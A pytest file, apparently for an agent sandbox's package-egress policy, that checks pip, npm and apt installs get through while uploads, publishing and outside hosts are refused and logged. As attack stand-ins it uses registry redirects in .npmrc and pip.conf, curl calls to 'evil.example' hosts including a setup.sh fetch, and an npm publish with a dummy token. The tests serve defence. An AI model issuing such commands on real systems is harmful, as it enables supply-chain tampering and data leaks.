"""Package clients in a real box, by the registries that this machine's own clients name.

No host is written here: the clients of the image name them, as in every session.
"""

import json
import os

import pytest
import yaml

from orchestrator.engine.client import connect
from tests.support.images import drop_image
from tests.support.world import bash

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]

INDEX = "$(COLUMNS=9999 pip install --help | sed -n 's/.*--index-url <url>.*default \\([^)]*\\)).*/\\1/p')"
SCOPED = "cd /tmp && npm install --no-audit --no-fund left-pad@1.3.0 @types/ms@2.1.0 2>&1"
PUBLISH = (
    'cd /tmp && echo \'{"name": "nothing-of-glovebox", "version": "1.0.0"}\' > package.json'
    ' && npm config set "$(npm config get registry | sed s,https:,,):_authToken" x; npm publish 2>&1'
)
TRUST = {name: os.environ[name] for name in ("SSL_CERT_FILE", "SSL_CERT_DIR") if name in os.environ}
"""Where this machine's Python finds the authorities that it trusts."""


class Outing:
    """Runs of the command line under a policy of the test's own."""

    def __init__(self, world):
        self.world = world
        self.policy = world.root / "policy.yaml"

    def under(self, packages, **more):
        body = {"version": 1, "name": "out", "extends": ["default"], **more}
        body["network"] = {"default": "deny", "packages": packages}
        self.policy.write_text(yaml.safe_dump(body))
        return self

    def run(self, *commands):
        model = self.world.script(*(bash(command) for command in commands), {"text": "done"})
        self.ended = self.world.run(
            "run",
            "--json",
            "--yolo",
            "-m",
            model,
            "--policy",
            self.policy,
            "go",
            env=TRUST,
            timeout=280,
        )
        return [event["output"] for event in self.ended.of("tool_end")]

    def records(self, kind, chain=None):
        chain = chain or self.ended.events[0]["session"]
        lines = (self.world.state / "audit" / f"{chain}.jsonl").read_bytes().splitlines()
        return [row["body"] for row in map(json.loads, lines) if row["type"] == kind]

    def denied(self):
        rows = self.records("egress")
        return {(row["method"], row["rule"]) for row in rows if row["effect"] == "deny"}


@pytest.fixture
def outing(world):
    return Outing(world)


def test_pip_installs_and_each_file_is_noted(outing):
    """Its index names files on another host: those, and no others of it, are let out."""
    installed, used = outing.under(["pip"]).run(
        "pip install --quiet --target=/tmp/site six==1.17.0 && ls /tmp/site",
        "PYTHONPATH=/tmp/site python3 -c 'import six; print(six.__version__)'",
    )

    assert "six.py" in installed
    assert "1.17.0" in used
    (noted,) = outing.records("artefact")
    assert (noted["ecosystem"], noted["name"], noted["version"]) == ("pip", "six", "1.17.0")
    assert noted["matches"] is True
    assert noted["announced"] == f"sha256:{noted['sha256']}"
    assert noted["egress"] in {record["egress"] for record in outing.records("egress_end")}


def test_npm_installs_scoped_packages_and_others(outing):
    """Hashes are held against what the registry announced, and npm checks its own."""
    (installed,) = outing.under(["npm"]).run(
        f"{SCOPED} && node -p \"require('left-pad')('x', 3)\" && ls node_modules/@types"
    )

    assert "  x\nms" in installed
    noted = {
        (note["name"], note["version"], note["matches"]) for note in outing.records("artefact")
    }
    assert noted == {("left-pad", "1.3.0", True), ("@types/ms", "2.1.0", True)}


def test_whatever_writes_is_refused_with_the_reason(outing):
    """Uploads, publishing and audits, at the very servers that packages come from."""
    upload, published, audited = outing.under(["pip", "npm"]).run(
        f"curl -sS -w '%{{http_code}}' -d x=1 {INDEX}/",
        PUBLISH,
        "mkdir /tmp/a && cd /tmp/a && npm install --no-audit --silent left-pad && npm audit 2>&1",
    )

    for refused in (upload, audited):
        assert "fetched with GET and HEAD alone" in refused
    assert "403" in upload
    assert "403 Refused by policy - PUT" in published
    assert outing.denied() >= {
        ("POST", "packages:pip"),
        ("POST", "packages:npm"),
        ("PUT", "packages:npm"),
    }


def test_a_project_cannot_name_a_host_of_its_own(outing):
    """A pip.conf or .npmrc of the workspace changes where clients go, not what they may reach."""
    project = outing.world.project
    (project / ".npmrc").write_text("registry=https://registry.evil.example/\n")
    (project / "pip.conf").write_text("[global]\nindex-url=https://index.evil.example/simple\n")
    npm, pip, other = outing.under(["pip", "npm"]).run(
        "npm view left-pad version --fetch-retries=0 2>&1",
        "PIP_CONFIG_FILE=$PWD/pip.conf pip download --retries=1 --no-deps six 2>&1",
        "curl -sS https://files.evil.example/ 2>&1",
    )

    for refused in (npm, pip, other):
        assert "403" in refused
    assert {row["effect"] for row in outing.records("egress")} == {"deny"}


def test_only_the_clients_that_policy_names_get_out(outing):
    """pip alone means pip's servers alone."""
    (npm,) = outing.under(["pip"]).run("npm view left-pad version --fetch-retries=0 2>&1")

    assert "403" in npm


def test_apt_installs_in_the_steps_through_the_proxy(outing):
    """As root, without a network of its own, recorded; nothing of the proxy stays in the image."""
    steps = {"packages": ["hello"], "commands": ["hello > /srv/said"]}
    (said,) = outing.under(["apt"], sandbox={"prepare": steps}).run(
        "cat /srv/said; hello; ls -A /var/lib/apt/lists /usr/local/share/ca-certificates"
    )

    assert said.startswith("Hello, world!\nHello, world!\n")
    start = outing.ended.of("session_start")[0]
    (chain,) = {file.stem for file in (outing.world.state / "audit").glob("*.jsonl")} - {
        start["session"]
    }
    assert start["posture"]["facts"]["prepared_in"] == chain
    (made,) = outing.records("prepared", chain)
    engine = connect()
    try:
        config = engine.api.inspect_image(made["image"])["Config"]
    finally:
        drop_image(engine, made["image"])
        engine.close()
    assert not [pair for pair in config["Env"] if "proxy" in pair.lower() or "/dev/shm" in pair]
    assert [note["name"] for note in outing.records("artefact", chain)] == ["hello"]
    first, second = (body["command"] for body in outing.records("prepare_step", chain))
    assert "apt-get install --yes --no-install-recommends -- hello" in first
    assert second == "hello > /srv/said"
    assert {row["method"] for row in outing.records("egress", chain)} <= {"GET", None}
    assert outing.world.run("audit", "verify", chain).code == 0
    assert "hello 2." in outing.world.run("audit", "egress", chain).out


def test_a_step_that_may_not_fetch_says_so(outing):
    """What a step fetches is judged as in a session; no image is made."""
    steps = {"commands": ["curl -sSf https://files.evil.example/setup.sh"]}

    assert outing.under(["apt"], sandbox={"prepare": steps}).run("true") == []
    assert outing.ended.code == 5
    assert "sandbox.prepare: run curl" in outing.ended.err
    assert "403" in outing.ended.err
